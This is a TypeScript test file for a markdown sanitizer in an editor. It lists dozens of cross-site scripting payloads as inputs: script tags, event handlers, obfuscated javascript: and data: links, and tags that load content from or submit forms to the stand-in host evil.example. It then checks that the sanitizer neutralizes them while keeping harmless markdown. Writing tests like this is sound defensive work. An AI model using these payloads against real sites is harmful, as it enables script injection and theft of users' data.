import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { costOf } from '../testing/cost.ts';
import { sanitizeMarkdown } from './markdown.ts';

/** Returns the active parts of a text: its tags and link destinations. Escaped parts are only displayed. */
const actingIn = (markdown: string) =>
  [...markdown.matchAll(/<[^>]*>?|\]\([^)]*|^\[.*?\]:.*$/gm)].map(([piece]) => piece).join('\n');

describe('removes active content §editor.29', () => {
  const attacks: [string, RegExp][] = [
    ['<script>alert(1)</script>', /script|alert/],
    ['<ScRiPt src=//evil.example/x.js></sCrIpT>', /script|evil/i],
    ['<script\n>alert(1)</script\n>', /script|alert/],
    ['<scr<script>ipt>alert(1)</scr</script>ipt>', /<script/i],
    ['<img src=x onerror=alert(1)>', /onerror/],
    ['<img src="/api/file/get/1" onload="alert(1)" alt="图">', /onload/],
    ['<img/src=x/onerror=alert(1)>', /onerror/],
    ['<img src=x onerror=alert(1)', /onerror/],
    ['<svg onload=alert(1)><circle/></svg>', /svg|onload/],
    ['<svg><script>alert(1)</script></svg>', /svg|script/],
    ['<math><mi xlink:href="javascript:alert(1)">x</mi></math>', /javascript|math/],
    ['<iframe src="javascript:alert(1)"></iframe>', /iframe|javascript/],
    ['<object data="data:text/html,x"></object>', /object|data:/],
    ['<embed src="x.swf">', /embed/],
    ['<a href="javascript:alert(1)">点我</a>', /javascript/],
    ['<a href="jAvAsCrIpT:alert(1)">点我</a>', /javascript/i],
    ['<a href="java&#115;cript:alert(1)">点我</a>', /script|&#115;/],
    ['<a href=" &#14; javascript:alert(1)">点我</a>', /javascript/],
    ['<a href="java\tscript:alert(1)">点我</a>', /script:/],
    ['<a href="data:text/html;base64,PHNjcmlwdD4=">点我</a>', /data:/],
    ['<a href="vbscript:msgbox(1)">点我</a>', /vbscript/],
    ['[点我](javascript:alert(1))', /javascript/],
    ['[点我](JaVaScRiPt:alert(1))', /javascript/i],
    ['[点我](<javascript:alert(1)>)', /javascript/],
    ['[点我](java&#x73;cript:alert(1))', /cript/],
    ['[点我](javascript&colon;alert(1))', /javascript/],
    ['[点我](\\javascript:alert(1))', /javascript/],
    ['![图](data:image/svg+xml;base64,PHN2Zz4=)', /data:/],
    ['[点我][1]\n\n[1]: javascript:alert(1)', /javascript/],
    ['<javascript:alert(1)>', /javascript/],
    ['<form action="https://evil.example"><input name="p"></form>', /form|input/],
    ['<base href="https://evil.example/">', /base/],
    ['<meta http-equiv="refresh" content="0;url=//evil.example">', /meta/],
    ['<link rel="stylesheet" href="//evil.example/x.css">', /link/],
    ['<style>@import "//evil.example";</style>', /style|import/],
    ['<div style="background:url(//evil.example)">x</div>', /style/],
    ['<img src="https://evil.example/pixel.png">', /evil/],
    ['<img src="//evil.example/pixel.png">', /evil/],
    ['<video src="https://evil.example/v.mp4" controls></video>', /evil/],
    ['<!--><script>alert(1)</script>-->', /script/],
    ['<!-- <b> --> <script>alert(1)</script>', /script/],
    ['<?php <script>alert(1)</script> ?>', /<\/?script/],
    ['<![CDATA[<script>alert(1)</script>]]>', /<\/?script/],
    ['<template><img src=x onerror=alert(1)></template>', /template|onerror/],
    ['<noscript><p title="</noscript><img src=x onerror=alert(1)>">', /onerror/],
    ['<details open ontoggle=alert(1)>x</details>', /ontoggle/],
    ['<p id="location" name="x">x</p>', /id=|name=/],
    ['<td background="javascript:alert(1)">x</td>', /javascript/],
    ['<a title=">" onclick="alert(1)" href="/x">x</a>', /onclick/],
  ];

  test.each(attacks)('%s', (attack, remains) => {
    for (const text of [attack, `前文\n\n> - ${attack}\n\n后文`, `<div>\n${attack}\n</div>`, `<p>${attack}`]) {
      expect(actingIn(sanitizeMarkdown(text)), text).not.toMatch(remains);
    }
  });

  test('also where it only looks like code', () => {
    const disguised = [
      '<div>\n```\n<script>alert(1)</script>\n```\n</div>',
      '<div>`<script>alert(1)</script>`</div>',
      '\\`<script>alert(1)</script>\\`',
      '> ```\n<script>alert(1)</script>',
      '- ```\n<script>alert(1)</script>',
      '`\n\n<script>alert(1)</script>\n\n`',
      '```\n```\n<script>alert(1)</script>\n',
      '~~~\n```\n~~~\n<script>alert(1)</script>\n',
      '``` `\n<script>alert(1)</script>\n```',
      '<b title="`"><script>alert(1)</script>`',
      '- 一\n\n    <script>alert(1)</script>',
    ];
    for (const one of disguised) expect(sanitizeMarkdown(one), one).not.toMatch(/<script/);
  });
});

describe('keeps harmless content byte for byte §editor.29', () => {
  const harmless = [
    '# 标题\n\n正文 **加粗** *斜体* `a < b && c > d` 3 < 5 > 2 & x\n',
    '```html\n<script>alert("示例")</script>\n<img onerror=x>\n```\n',
    '~~~\n<script>\n~~~',
    '    <script>缩进的代码</script>\n',
    '行内 `<script>alert(1)</script>` 与 ``a`<b>`` 代码',
    '> ```sh\n> cat <<EOF\n> <x>\n> EOF\n> ```\n',
    '1. 步骤\n\n   ```sh\n   echo "<a>" > /tmp/x\n   ```\n',
    '[链接](https://example.com/a?b=1&c=2) <https://example.com> <who@example.com> [电话](tel:10086)',
    '![图](/api/file/get/0190) [文件](./a.md#b) [锚](#x)',
    '<u>下划线</u> H<sub>2</sub>O x<sup>2</sup><br>换行<br/>\n',
    '<details>\n<summary>答案</summary>\n\n**四十二**\n\n</details>\n',
    '<table>\n<tr><td>一</td><td>二</td></tr>\n</table>\n',
    '| 甲 | 乙 |\n| --- | --- |\n| a | b<br>c |\n',
    '如果 a<b，且 b>c，则 a <b and c> d；x <- y；List<String>；#include <stdio.h>\n',
    '<!-- 备注 -->\n\n正文 <!-- 备注 -->\n',
    'Windows\r\n换行\r\n',
    '',
  ];
  test.each(harmless)('%j', (text) => {
    expect(sanitizeMarkdown(text)).toBe(text);
  });

  test('keeps words that look like a script', () => {
    expect(sanitizeMarkdown('我写了 <script>alert(1)</script> 来测试')).toBe(
      '我写了 &lt;script>alert(1)&lt;/script> 来测试',
    );
  });

  test('keeps the width of a picture', () => {
    const clean = sanitizeMarkdown('<img src="/api/file/get/1" alt="图" width="300">');
    expect(clean).toMatch(/<img src="\/api\/file\/get\/1" alt="图" width="300"/);
  });
});

test('is idempotent for any text §editor.29', () => {
  const pieces = [
    '<script>',
    '</script>',
    '<b>',
    '`',
    '```',
    '\n',
    '> ',
    '- ',
    '](javascript:',
    '<!--',
    '-->',
    '"',
    "'",
    '=',
    ' on',
    '字',
    '<',
    '>',
    '    ',
  ];
  const text = fc.array(fc.constantFrom(...pieces), { maxLength: 30 }).map((list) => list.join(''));
  fc.assert(
    fc.property(text, (source) => {
      const once = sanitizeMarkdown(source);
      expect(sanitizeMarkdown(once)).toBe(once);
    }),
    { numRuns: 500 },
  );
});

test('sanitizes a long text quickly, also one made to be slow §editor.29', async () => {
  const sanitize = () => {
    sanitizeMarkdown('<a '.repeat(60_000));
    sanitizeMarkdown('`'.repeat(200_000));
    sanitizeMarkdown('<!--'.repeat(50_000));
    sanitizeMarkdown('<script '.repeat(15_000));
    sanitizeMarkdown('[a]('.repeat(45_000));
  };
  expect(await costOf(sanitize)).toBeLessThan(10);
});

describe('a text with an excessive number of tags §editor.29', () => {
  const imagesOf = (count: number, address: (n: number) => string) =>
    Array.from({ length: count }, (_, n) => `<img src="${address(n)}" />`).join('');

  test('keeps the first thousand tags and escapes the rest', () => {
    const clean = sanitizeMarkdown(imagesOf(2_000, (n) => `/api/file/get/${n}`));
    expect(clean.match(/<img /g)).toHaveLength(1_000);
    expect(clean.match(/&lt;img /g)).toHaveLength(1_000);
    expect(sanitizeMarkdown(clean)).toBe(clean);
  });

  test('keeps all tags where they are identical', () => {
    const text = imagesOf(2_000, () => '/api/file/get/1');
    expect(sanitizeMarkdown(text)).toBe(text);
  });
});
